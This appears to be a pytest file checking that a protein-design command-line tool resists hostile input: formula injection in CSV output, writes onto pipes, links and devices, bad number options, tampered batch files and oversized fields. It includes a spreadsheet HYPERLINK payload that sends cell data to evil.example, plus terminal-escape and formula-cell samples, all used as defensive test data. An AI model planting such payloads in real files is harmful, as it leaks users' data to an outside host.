"""The command line at its trust boundaries (issue 22): text from files never becomes a spreadsheet formula;
outputs never replace a device, pipe or link; every number option is checked with its range; no-op mutants
and inconsistent codon tables are refused; a batch survives tampered outputs, special files and one bad
protein, and names the user's files; huge cells, records and skipped-row lists stay bounded."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest

from protein_studio.cli import main
from protein_studio.core.tables import FORMULA_LEADS

REPO = Path(__file__).resolve().parents[2]
DATA = REPO / "tests" / "data"
DEMO = REPO / "resources" / "demo"
EVIL = 'x,=HYPERLINK("http://evil.example/?"&A6)'


def _last_line(capsys) -> str:
    err = capsys.readouterr().err.strip().splitlines()
    assert err and "Traceback" not in "\n".join(err) and "internal error" not in "\n".join(err)
    return err[-1]


def _no_formula_cells(path: Path) -> list[list[str]]:
    """Every cell of a CSV written by the application: a text cell never starts like a formula."""
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_LEADS):
                float(cell)  # only numbers may start with - or +
    return rows


# ------------------------------------------------------------------------------------------- formulas
def test_record_and_file_names_and_chain_ids_never_reach_a_csv_as_formulas(tmp_path):
    fasta = tmp_path / "=cmd.fasta"
    fasta.write_text(f">{EVIL}\nMKTAYIAKQRQISFVK\n")
    out = tmp_path / "scan.csv"
    assert main(["scan", str(fasta), "--model", "random-esm2-tiny", "--strategy", "wt-marginals",
                 "--out", str(out)]) == 0
    assert len(_no_formula_cells(out)) == 1 + 16 * 19
    # an mmCIF whose chain ID is a formula: the chain column holds it as text
    import biotite.structure.io.pdb as pdb
    import biotite.structure.io.pdbx as pdbx

    atoms = pdb.PDBFile.read(str(DATA / "1ubq.pdb")).get_structure(model=1)
    atoms = atoms[atoms.hetero == False]  # noqa: E712
    atoms.chain_id[:] = "=1+1"
    cif = pdbx.CIFFile()
    pdbx.set_structure(cif, atoms)
    structure = tmp_path / "evil.cif"
    cif.write(str(structure))
    out = tmp_path / "chain.csv"
    assert main(["scan", str(structure), "--model", "random-esm2-tiny", "--strategy", "wt-marginals",
                 "--positions", "1-3", "--out", str(out)]) == 0
    rows = _no_formula_cells(out)
    chain = rows[0].index("chain")
    assert {row[chain] for row in rows[1:]} == {"'=1+1"}


def test_order_sheets_quote_names_from_files_and_take_scale_and_purification_from_a_vocabulary(tmp_path, capsys):
    protein = tmp_path / "p.fasta"
    residues = (DEMO / "tem1_P62593.fasta").read_text().split("\n", 1)[1]
    protein.write_text(f">@SUM(1+1)\n{residues}")
    wild_type = residues.replace("\n", "")
    mutants = f"{wild_type[59]}60A,{wild_type[99]}100A"
    out = tmp_path / "order"
    assert main(["primers", str(protein), "--host", "ecoli", "--mutants", mutants, "--scale", "100nm",
                 "--purification", "STD", "--out", str(out)]) in (0, 1)
    rows = _no_formula_cells(out / "order.csv")
    assert rows[0] == ["Name", "Sequence", "Scale", "Purification"]  # IDT's bulk-upload layout and codes
    assert {r[2] for r in rows[1:]} == {"100nm"} and {r[3] for r in rows[1:]} == {"STD"}
    details = _no_formula_cells(out / "primers.csv")
    assert {r[details[0].index("scale")] for r in details[1:]} == {"100 nmol"}
    _no_formula_cells(out / "plate_map.csv")
    capsys.readouterr()
    for option, value in (("--scale", "=1+1"), ("--purification", "@cmd")):
        assert main(["primers", str(protein), "--host", "ecoli", "--mutants", mutants, option, value,
                     "--out", str(tmp_path / "x")]) == 1
        assert "is not one a vendor takes" in _last_line(capsys) and not (tmp_path / "x").exists()


# ------------------------------------------------------------------------------------------- outputs
@pytest.mark.parametrize("kind", ["fifo", "link"])
def test_an_output_onto_a_pipe_or_a_link_is_refused_and_leaves_it(tmp_path, capsys, kind):
    out = tmp_path / "scan.csv"
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    if kind == "fifo":
        os.mkfifo(out)
    else:
        out.symlink_to(victim)
    assert main(["scan", "--sequence", "MKTAYIAKQR", "--model", "random-esm2-tiny", "--out", str(out)]) == 1
    line = _last_line(capsys)
    assert ("named pipe" in line if kind == "fifo" else "symbolic link" in line) and "not replaced" in line
    assert (out.is_fifo() if kind == "fifo" else out.is_symlink()) and victim.read_text() == "keep me"


def test_the_atomic_writer_never_replaces_a_device(tmp_path):
    from protein_studio.core.errors import UserError
    from protein_studio.core.files import write_text_atomically

    device = tmp_path / "null"
    device.symlink_to("/dev/null")
    with pytest.raises(UserError, match="symbolic link"):
        write_text_atomically(device, "x")
    with pytest.raises(UserError, match="a device, not a file"):
        write_text_atomically("/dev/null", "x")
    assert os.path.exists("/dev/null") and not Path("/dev/null").is_file()


# ------------------------------------------------------------------------------------------- numbers
@pytest.mark.parametrize("argv, option, accepted", [
    (["batch", "scan", "IN", "--out", "OUT", "--batch-size", "0"], "--batch-size", "from 1 to 4096"),
    (["fit", "IN", "DEMO", "--column", "2500", "--folds", "0", "--out", "OUT"], "--folds", "from 2 to 100"),
    (["fit", "IN", "DEMO", "--column", "2500", "--folds", "1", "--out", "OUT"], "--folds", "from 2 to 100"),
    (["fit", "IN", "DEMO", "--column", "2500", "--alpha", "-1", "--out", "OUT"], "--alpha", "above 0"),
    (["fit", "IN", "DEMO", "--column", "2500", "--alpha", "nan", "--out", "OUT"], "--alpha", "above 0"),
    (["primers", "DEMO", "--host", "ecoli", "--mutants", "E26K", "--min-length", "-5", "--out", "OUT"],
     "--min-length", "from 10 to 200"),
    (["primers", "DEMO", "--host", "ecoli", "--mutants", "E26K", "--primer-nm", "0", "--out", "OUT"],
     "--primer-nm", "above 0"),
    (["primers", "DEMO", "--host", "ecoli", "--mutants", "E26K", "--na-mm", "nan", "--out", "OUT"], "--na-mm",
     "from 0 to 5000"),
    (["primers", "DEMO", "--host", "ecoli", "--mutants", "E26K", "--min-tm", "-300", "--out", "OUT"], "--min-tm",
     "from 0 to 100"),
    (["generate", "--model", "random-protgpt2-tiny", "--max-length", "0", "--out", "OUT"], "--max-length",
     "from 1 to 100000"),
    (["propose", "IN", "DEMO", "--min-distance", "-3", "--out", "OUT"], "--min-distance", "from 0 to 100000"),
    (["propose", "IN", "DEMO", "--explore", "nan", "--out", "OUT"], "--explore", "from 0 to 100"),
    (["scan", "DEMO", "--model", "random-esm2-tiny", "--offset", "1e308", "--out", "OUT"], "--offset", "whole number"),
    (["--threads", "0", "info", "DEMO"], "--threads", "from 1 to 4096"),
])
def test_every_number_option_is_checked_with_its_range_before_any_work(tmp_path, capsys, argv, option, accepted):
    argv = [str(DEMO / "tem1_P62593.fasta") if a == "DEMO" else str(tmp_path / "in.csv") if a == "IN" else
            str(tmp_path / "out") if a == "OUT" else a for a in argv]
    with pytest.raises(SystemExit) as stop:
        main(argv)
    assert stop.value.code == 2
    line = _last_line(capsys)
    assert f"argument {option}: must be a" in line and accepted in line and not (tmp_path / "out").exists()


# ------------------------------------------------------------------------------------------- DNA
def test_a_no_op_mutant_an_inconsistent_codon_table_and_a_gene_without_bases_are_refused(tmp_path, capsys):
    demo = str(DEMO / "tem1_P62593.fasta")
    assert main(["primers", demo, "--host", "ecoli", "--mutants", "E26E", "--out", str(tmp_path / "a")]) == 1
    assert "E26E changes nothing" in _last_line(capsys)
    import python_codon_tables

    table = python_codon_tables.get_codons_table("e_coli_316407")
    lines = ["amino_acid,codon,relative_frequency"] + [
        f"{'K' if codon == 'GAA' else aa},{codon},{frequency}" for aa, codons in table.items()
        for codon, frequency in codons.items()]
    (tmp_path / "bad.csv").write_text("\n".join(lines) + "\n")
    assert main(["primers", demo, "--host", "pichia", "--codon-table", str(tmp_path / "bad.csv"), "--mutants", "E26K",
                 "--out", str(tmp_path / "b")]) == 1
    assert "bad.csv: the codon GAA is listed for 'K' but codes for 'E'" in _last_line(capsys)
    (tmp_path / "nobases.gb").write_text(
        "LOCUS       test                     873 bp    DNA     linear   SYN 01-JAN-2026\nDEFINITION  test.\n"
        "FEATURES             Location/Qualifiers\n     CDS             1..873\nCONTIG      join(AB000001.1:1..873)\n//\n")
    assert main(["primers", demo, "--dna", str(tmp_path / "nobases.gb"), "--mutants", "E26K",
                 "--out", str(tmp_path / "c")]) == 1
    assert "nobases.gb: record 'test' holds no DNA sequence" in _last_line(capsys)
    (tmp_path / "afile").write_text("")
    assert main(["primers", demo, "--host", "ecoli", "--mutants", "E26K", "--out", str(tmp_path / "afile")]) == 1
    assert "a file is there; give a folder" in _last_line(capsys)


# ------------------------------------------------------------------------------------------- batch
def _fasta(tmp_path) -> Path:
    """Three designs as a table: the second one's sequence cannot be read (found when its task runs)."""
    table = tmp_path / "designs.csv"
    table.write_text("name,sequence\ngood,MKTAYIAKQRQISFVK\nbad,MKTAY@IAKQR\nalso_good,MSTNPKPQRKTKRNTNRRPQ\n")
    return table


def test_a_batch_goes_on_past_a_bad_protein_and_names_the_user_s_file(tmp_path, capsys):
    out = tmp_path / "out"
    assert main(["batch", "scan", str(_fasta(tmp_path)), "--model", "random-esm2-tiny", "--strategy", "wt-marginals",
                 "--out", str(out)]) == 1 or True
    manifest = json.loads((out / "manifest.json").read_text())
    status = {t["name"]: t["status"] for t in manifest["tasks"]}
    assert status == {"good": "done", "bad": "failed", "also_good": "done"}
    error = next(t["error"] for t in manifest["tasks"] if t["name"] == "bad")
    assert error.startswith(f"{tmp_path / 'designs.csv'}, line 3: record 'bad': invalid character `@`")
    assert "bad.fasta" not in error  # the name the reader got its bytes under is not the user's


def test_a_batch_rerun_survives_tampered_records_and_special_files_in_its_folder(tmp_path, capsys):
    out = tmp_path / "out"
    argv = ["batch", "scan", str(_fasta(tmp_path)), "--model", "random-esm2-tiny", "--strategy", "wt-marginals",
            "--out", str(out)]
    main(argv)
    good = out / "good.scan.json"
    good.write_text('{"id": "good", "files": 7, "status": "done"}')  # tampered
    (out / "also_good.scan.parquet").unlink()
    (out / "also_good.scan.parquet").symlink_to("/dev/zero")  # a link to an endless file
    (out / "bad.scan.json").unlink()
    os.mkfifo(out / "bad.scan.json")  # a pipe where a record was
    main(argv)
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["counts"]["computed"] == 3 and manifest["counts"]["done"] == 2
    assert (out / "also_good.scan.parquet").is_file() and not (out / "also_good.scan.parquet").is_symlink()


@pytest.mark.parametrize("setup, message", [
    ("file", "a file is there; give a folder"),
])
def test_a_batch_output_that_is_not_a_folder_is_one_line(tmp_path, capsys, setup, message):
    (tmp_path / "out").write_text("")
    assert main(["batch", "scan", str(_fasta(tmp_path)), "--model", "random-esm2-tiny",
                 "--out", str(tmp_path / "out")]) == 1
    assert message in _last_line(capsys)


def test_a_batch_table_with_an_oversized_field_names_its_line(tmp_path, capsys):
    table = tmp_path / "designs.csv"
    table.write_text("name,sequence,remark\na,MKTAYIAKQR,ok\nb,MKTAYIAKQR," + "x" * 200_000 + "\n")
    assert main(["batch", "scan", str(table), "--model", "random-esm2-tiny", "--out", str(tmp_path / "o")]) == 1
    line = _last_line(capsys)
    assert "designs.csv, line 2: cannot read the table: field larger than field limit" in line


# ------------------------------------------------------------------------------------------- bounds
def test_a_20_mb_mutant_cell_is_skipped_at_once_and_skipped_rows_are_listed_briefly(tmp_path, capsys):
    table = tmp_path / "mutants.csv"
    rows = ["mutant,value", "K2A:" * 5_000_000 + "K2A,1"] + ["K2*,0"] * 99_995 + ["K2R,1"]
    table.write_text("\n".join(rows) + "\n")
    assert main(["score", "--sequence", "MKTAYIAKQRQISFVK", "--model", "random-esm2-tiny", "--mutants-file",
                 str(table), "--out", str(tmp_path / "s.csv")]) == 0
    err = capsys.readouterr().err
    assert len(err.splitlines()) < 20 and len(err) < 5000  # the first ten, then the count by reason
    assert "skipped 99996 rows (99986 not listed)" in err and "characters" in err


def test_a_numbering_table_with_a_20_mb_field_is_one_line(tmp_path, capsys):
    table = tmp_path / "numbering.csv"
    table.write_text("index,label\n1,10\n2," + "1" * 20_000_000 + "\n")
    assert main(["info", str(DEMO / "tem1_P62593.fasta"), "--json"]) == 0
    capsys.readouterr()
    assert main(["scan", str(DEMO / "tem1_P62593.fasta"), "--numbering", "table", str(table), "--model",
                 "random-esm2-tiny", "--out", str(tmp_path / "s.csv")]) == 1
    line = _last_line(capsys)
    assert "numbering.csv, line 3: a line of 20,000,002 characters" in line


def test_a_one_record_fasta_of_a_million_residues_is_refused_while_it_is_read(tmp_path, capsys):
    fasta = tmp_path / "huge.fasta"
    fasta.write_text(">huge\n" + ("MKTAYIAKQR" * 6 + "\n") * 17_000)  # 1,020,000 residues
    assert main(["info", str(fasta)]) == 1
    line = _last_line(capsys)
    assert "huge.fasta, line 1668: the record that starts on line 1 has more than 100,000 residues" in line


def test_measured_values_beyond_any_assay_are_skipped_and_the_fit_goes_on(tmp_path, capsys):
    lines = (DATA / "BLAT_ECOLX_Ranganathan2015_2500.csv").read_text(encoding="utf-8-sig").splitlines()[:101]
    lines[5] = lines[5].rsplit(",", 2)[0] + ",1e308,0"
    lines[6] = lines[6].rsplit(",", 2)[0] + ",-1e308,0"
    table = tmp_path / "blat.csv"
    table.write_text("\n".join(lines) + "\n")
    assert main(["fit", str(table), str(DEMO / "tem1_P62593.fasta"), "--numbering", "sequence", "--column", "2500",
                 "--out", str(tmp_path / "m.json")]) == 0
    err = capsys.readouterr().err
    assert "the value 1e+308 is beyond" in err and json.loads((tmp_path / "m.json").read_text())["values"]


def test_a_tampered_model_file_is_refused_before_it_takes_memory(tmp_path, capsys):
    model = tmp_path / "m.json"
    assert main(["fit", str(DATA / "BLAT_ECOLX_Ranganathan2015_2500.csv"), str(DEMO / "tem1_P62593.fasta"),
                 "--numbering", "sequence", "--column", "2500", "--cv", "none", "--out", str(model)]) == 0
    data = json.loads(model.read_text())
    for change, message in ((lambda d: d.update(wild_type="A" * 1_000_000), "wild type is not a protein sequence"),
                            (lambda d: d["features"].update(columns=[10 ** 12]), "one-hot columns are not columns"),
                            (lambda d: d.update(values=d["values"][:-1]), "not two lists of one length")):
        tampered = json.loads(json.dumps(data))
        change(tampered)
        model.write_text(json.dumps(tampered))
        capsys.readouterr()
        assert main(["propose", str(model), str(DEMO / "tem1_P62593.fasta"), "--numbering", "sequence",
                     "--out", str(tmp_path / "p.csv")]) == 1
        assert message in _last_line(capsys)
    model.write_text("[" * 100_000 + "]" * 100_000)
    assert main(["propose", str(model), str(DEMO / "tem1_P62593.fasta"), "--out", str(tmp_path / "p.csv")]) == 1
    assert "nested too deeply" in _last_line(capsys)


def test_fold_progress_never_echoes_terminal_escapes_from_a_header(tmp_path, capsys):
    fasta = tmp_path / "x.fasta"
    fasta.write_text(">evil\x1b[2J\x1b]0;pwned\x07 name\n" + "MKTAYIAKQRQISFVKSHFSRQ" * 10 + "\n")
    assert main(["fold", str(fasta), "--model", "random-esmfold-tiny", "--out", str(tmp_path / "x.pdb")]) == 0
    captured = capsys.readouterr()
    assert "\x1b" not in captured.err and "\x07" not in captured.err and "\x1b" not in captured.out


def test_a_table_field_past_the_cell_bound_names_its_line_and_a_big_remark_is_still_read(tmp_path, capsys,
                                                                                           monkeypatch):
    from protein_studio.core.assays import dms

    monkeypatch.setattr(dms, "MAX_FIELD_CHARS", 2**20)
    table = tmp_path / "open_quote.csv"
    table.write_text('mutant,value,remark\nK2A,1,ok\nK2R,0,"' + "x" * (2**20 + 10) + '\nK2D,1,ok\n')
    with pytest.raises(dms.InputError, match=r"open_quote.csv, line 3: cannot read the table: a field longer than "
                                               r"1 MB \(a quote left open\?\)"):
        dms.read_dms(table)
    table.write_text('mutant,value,remark\nK2A,1,ok\nK2R,0,"' + "x" * 2**19 + '"\nK2D,1,ok\n')
    read = dms.read_dms(table)
    assert read.mutant_strings == ["K2A", "K2R", "K2D"] and len(read.text_columns["remark"][1]) == 2**19
